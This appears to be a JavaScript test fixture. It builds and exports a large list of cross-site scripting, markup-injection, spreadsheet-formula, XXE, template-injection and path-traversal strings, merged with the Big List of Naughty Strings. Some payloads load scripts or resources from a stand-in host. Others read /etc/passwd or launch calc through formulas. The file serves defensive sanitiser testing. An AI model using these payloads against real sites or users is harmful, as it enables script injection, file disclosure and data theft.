// Texts that would do something where a page does not take them as text: the Big List of Naughty Strings, and markup that runs a
// script or asks another address, in every place that could be left.

import { createRequire } from 'node:module';

export const ELSEWHERE = 'http://elsewhere.invalid';
const NAUGHTY = createRequire(import.meta.url)('big-list-of-naughty-strings');

const RUNS = "alert(1);document.title='ran'";

/** What ends the place in which a text could stand. */
const ENDS = ['', '">', "'>", '`>', '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</svg>', '</template>', '&quot;>', '\\">', '\u0000">'];

/** What then would run, or ask. */
const MARKUP = [
  `<script>${RUNS}</script>`,
  `<ScRiPt src=//elsewhere.invalid/s.js></sCrIpT>`,
  `<img src=x onerror="${RUNS}">`,
  `<svg/onload=${RUNS}>`,
  `<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>`,
  `<a href="javascript:${RUNS}" autofocus onfocus="${RUNS}">x</a>`,
  `<details open ontoggle="${RUNS}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUNS}">`,
  `<link rel=stylesheet href=${ELSEWHERE}/l.css>`,
  `<style>@import '${ELSEWHERE}/i.css';*{background:url(${ELSEWHERE}/b)}</style>`,
];

/** What would do so alone, or in another language than HTML. */
const ALONE = [
  `<body onload="${RUNS}">`, `<base href="${ELSEWHERE}/">`, `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/m">`,
  `<object data="${ELSEWHERE}/o"></object>`, `<embed src="${ELSEWHERE}/e">`, `<video src=x onerror="${RUNS}" autoplay></video>`,
  `<audio src="${ELSEWHERE}/a" autoplay></audio>`, `<marquee onstart="${RUNS}">x</marquee>`, `<form action="${ELSEWHERE}/f"><button>x</button></form>`,
  `<isindex action="javascript:${RUNS}">`, `<math href="javascript:${RUNS}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}>`,
  `<svg><script href="data:,${RUNS}"/></svg>`, `<svg><animate onbegin="${RUNS}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUNS}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUNS}"/></foreignObject></svg>`, `<template shadowrootmode=open><script>${RUNS}</script></template>`,
  `<dialog open onclose="${RUNS}"><form method=dialog><button autofocus></form></dialog>`, `<select autofocus onfocus="${RUNS}"></select>`,
  `<x onclick="${RUNS}" tabindex=0 autofocus onfocus="${RUNS}">x</x>`, `<x style="animation:a" onanimationstart="${RUNS}">x</x>`,
  `<img srcset="${ELSEWHERE}/s 1x">`, `<picture><source srcset="${ELSEWHERE}/p"><img src="${ELSEWHERE}/q"></picture>`, `<img src="${ELSEWHERE}/i">`,
  `<table background="${ELSEWHERE}/t"><td>x</td></table>`, `<p style="background:url(${ELSEWHERE}/c)">x</p>`, `<div style=x:expression(${RUNS})>x</div>`,
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`, `<<script>${RUNS}//<</script>`, `<script\u0000>${RUNS}</script>`, `<script\n>${RUNS}</script\t>`,
  `<img\u000csrc=x\u000conerror=${RUNS}>`, `<img/src='x'/onerror='${RUNS}'/`, `＜script＞${RUNS}＜/script＞`, `+ADw-script+AD4-${RUNS}+ADw-/script+AD4-`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`, `&#60;script&#62;${RUNS}&#60;/script&#62;`, `&amp;lt;img src=x onerror=${RUNS}&amp;gt;`, `%3Cscript%3E${RUNS}%3C/script%3E`,
  `\\u003cscript\\u003e${RUNS}\\u003c/script\\u003e`, `\\x3cscript\\x3e${RUNS}`, `<!--><script>${RUNS}</script>-->`, `<![CDATA[<script>${RUNS}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUNS}</script>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "${ELSEWHERE}/e">]>&e;`,
  `" onmouseover="${RUNS}" x="`, `' onfocus='${RUNS}' autofocus='`, `" autofocus onfocus=${RUNS} "`, `x" style="background:url(${ELSEWHERE}/d)" y="`,
  `";${RUNS}//`, `';${RUNS}//`, `\\";${RUNS}//`, `\`;${RUNS}//`, `\${${RUNS}}`, `</script><script>${RUNS}</script>`, `*/${RUNS}/*`, `\u2028${RUNS}\u2029`,
  `javascript:${RUNS}`, `JaVaScRiPt:${RUNS}`, `java\tscript:${RUNS}`, `java\nscript:${RUNS}`, `\u0001javascript:${RUNS}`, `javascript&colon;${RUNS}`, `&#106;avascript:${RUNS}`,
  `javascript://%0a${RUNS}`, `vbscript:msgbox(1)`, `data:text/html,<script>${RUNS}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUNS}'/>`, `//elsewhere.invalid/r`, `\\\\elsewhere.invalid\\r`, `/\\elsewhere.invalid/r`, `blob:${ELSEWHERE}/x`,
  `[x](javascript:${RUNS})`, `[x](JAVASCRIPT:${RUNS})`, `[x](java&#x73;cript:${RUNS})`, `[x](<javascript:${RUNS}>)`, `[x](data:text/html,<script>${RUNS}</script>)`,
  `[x](vbscript:${RUNS})`, `![x](javascript:${RUNS})`, `![x](${ELSEWHERE}/y.png)`, `![x](x.png "a" onerror=${RUNS})`, `![x" onerror="${RUNS}](x.png)`,
  `[x](x "y" onclick="${RUNS}")`, `[x]: javascript:${RUNS}\n\n[x]`, `<javascript:${RUNS}>`, `<data:text/html,x>`, `[x](x'onclick='${RUNS})`, `[a](file:///etc/passwd)`,
  `# <img src=x onerror=${RUNS}>`, `| <img src=x onerror=${RUNS}> |\n|---|\n| x |`, `\`\`\`<script>${RUNS}</script>\`\`\``, `<div>\n\n**x**\n\n<script>${RUNS}</script>`,
  `{{ 7 * 7 }}`, `{% raw %}{{ x }}`, `{% include "../../etc/passwd" %}`, `{{ __tera_context }}`, `{# x #}`, `{{ x | safe }}`,
  `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `\t=1+1`, `＝1+1`, `=HYPERLINK("${ELSEWHERE}/h","x")`,
  `::error file=x::y`, `##vso[task.complete result=Failed;]x`, `\u001b]8;;${ELSEWHERE}/k\u0007x\u001b]8;;\u0007`, `\u202e<script>${RUNS}</script>`,
  `../../../../etc/passwd`, `..\\..\\x`, `CON`, `nul.html`, `index.html#"><script>${RUNS}</script>`, `?q="><img src=x onerror=${RUNS}>`,
];

export const XSS = [...ENDS.flatMap((end) => MARKUP.map((markup) => `${end}${markup}`)), ...ALONE];
export const STRINGS = [...XSS, ...NAUGHTY.filter((text) => text.trim())];
